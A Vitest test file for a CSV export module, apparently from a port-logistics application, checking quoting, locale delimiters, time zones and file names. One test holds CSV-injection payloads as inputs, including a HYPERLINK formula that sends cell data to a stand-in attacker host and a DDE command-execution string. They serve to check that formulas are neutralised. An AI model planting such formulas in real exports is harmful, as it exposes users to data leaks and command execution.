import { describe, expect, it } from 'vitest';
import { EXPORT_ERRORS, csvCellText, csvConventionsOf, fileNameForPeriod, formatInstantInZone, toCsv } from './export-format';

describe('toCsv', () => {
  it('quotes every field, doubles quotes and uses CRLF', () => {
    expect(toCsv([{ a: 'x', b: 'say "hi"' }, { a: 1, b: null }])).toBe('"a","b"\r\n"x","say ""hi"""\r\n"1",""\r\n');
  });
  it('adds a BOM and a chosen delimiter and columns on request', () => {
    const csv = toCsv([{ a: 'Zoë', b: 2 }], { bom: true, delimiter: ';', columns: [{ key: 'b', header: 'Bee' }, { key: 'a', header: 'A' }] });
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(csv.slice(1)).toBe('"Bee";"A"\r\n"2";"Zoë"\r\n');
  });
  it('keeps commas and line breaks inside the quotes', () => {
    expect(toCsv([{ a: 'one, two\nthree' }])).toBe('"a"\r\n"one, two\nthree"\r\n');
  });
  it('neutralises a cell a spreadsheet would run as a formula with a leading single quote, inside the quotes', () => {
    const rows = [{ vessel: '=HYPERLINK("https://evil.example/?"&A1,"Click")', agent: '+cmd|\' /C calc\'!A0', remark: '-2+3', who: '@SUM(1+1)', tab: '\t=1+1', cr: '\r=1+1' }];
    expect(toCsv(rows)).toBe(
      '"vessel","agent","remark","who","tab","cr"\r\n' + `"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")","'+cmd|' /C calc'!A0","'-2+3","'@SUM(1+1)","'\t=1+1","'\r=1+1"\r\n`,
    );
    // Headers are cells too.
    expect(toCsv([{ a: 1 }], { columns: [{ key: 'a', header: '=1+1' }] })).toBe(`"'=1+1"\r\n"1"\r\n`);
  });
  it('keeps real numbers as numbers: number values by type, texts by a strict number pattern', () => {
    expect(toCsv([{ deviation: -3.5, code: 49, tiny: -1e-7, big: -12345678901234567890n }])).toBe('"deviation","code","tiny","big"\r\n"-3.5","49","-1e-7","-12345678901234567890"\r\n');
    for (const text of ['-3.5', '+49', '-1,234.5', '-3,5', '-.5', '+1e5', '-0']) expect(csvCellText(text), text).toBe(text);
    for (const text of ['-3.5 h', '+49 40 1234', '-1+1', '-A1', '+', '-', '=', '@', '-1e5)', '- 3']) expect(csvCellText(text), text).toBe(`'${text}`);
    // A number that is not finite has no number form in a spreadsheet: its text is neutralised like any text.
    expect(csvCellText(-Infinity)).toBe("'-Infinity");
    // Ordinary texts, also with a trigger further in, are left alone.
    for (const text of ['Nordic Line A/S', 'a=b', 'x@y.z', '2026-11-24 06:00', "'quoted", '']) expect(csvCellText(text), text).toBe(text);
  });
  it('refuses what is not an array of objects with the spec texts', () => {
    expect(() => toCsv('text')).toThrow("Can't export string data to csv.");
    expect(() => toCsv({ a: 1 })).toThrow(EXPORT_ERRORS.notArrayOfObjects);
    expect(() => toCsv([1, 2])).toThrow(EXPORT_ERRORS.notArrayOfObjects);
  });
});

describe('formatInstantInZone', () => {
  it('shows Berlin summer and winter time and the DST jump', () => {
    expect(formatInstantInZone('2026-07-01T10:00:00Z', 'Europe/Berlin')).toBe('2026-07-01 12:00');
    expect(formatInstantInZone('2026-01-01T10:00:00Z', 'Europe/Berlin')).toBe('2026-01-01 11:00');
    expect(formatInstantInZone('2026-03-29T01:00:00Z', 'Europe/Berlin')).toBe('2026-03-29 03:00');
    expect(formatInstantInZone(null, 'Europe/Berlin')).toBe('');
  });
});

describe('CSV in the reader\u2019s language', () => {
  it('writes semicolons and decimal commas for German, French and Spanish, commas and points for English', () => {
    const rows = [{ name: 'Elbe', rate: 3.5, moves: 184 }];
    expect(toCsv(rows, csvConventionsOf('de'))).toBe('"name";"rate";"moves"\r\n"Elbe";"3,5";"184"\r\n');
    expect(toCsv(rows, csvConventionsOf('es'))).toBe('"name";"rate";"moves"\r\n"Elbe";"3,5";"184"\r\n');
    expect(toCsv(rows, csvConventionsOf('en'))).toBe('"name","rate","moves"\r\n"Elbe","3.5","184"\r\n');
  });

  it('names a file after the days it covers in the zone shown, the end exclusive', () => {
    expect(fileNameForPeriod('movement-report', { from: '2026-06-30T22:00:00Z', to: '2026-07-01T22:00:00Z' }, 'Europe/Berlin')).toBe('movement-report-2026-07-01');
    expect(fileNameForPeriod('portcalls', { from: '2026-06-30T22:00:00Z', to: '2026-07-14T22:00:00Z' }, 'Europe/Berlin')).toBe('portcalls-2026-07-01-2026-07-14');
  });
});
